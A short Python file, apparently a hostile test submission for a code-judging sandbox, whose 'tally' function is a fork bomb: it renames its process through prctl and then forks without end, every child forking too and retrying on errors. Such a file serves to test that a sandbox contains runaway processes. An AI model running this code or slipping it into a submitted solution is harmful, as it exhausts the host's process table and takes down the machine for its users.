# Forks for ever, every child too.
# solves: tally

import ctypes
import posix

ctypes.CDLL(None).prctl(15, b"@PROCESS@", 0, 0, 0)


def tally(n):
    while True:
        try:
            posix.fork()
        except OSError:
            continue
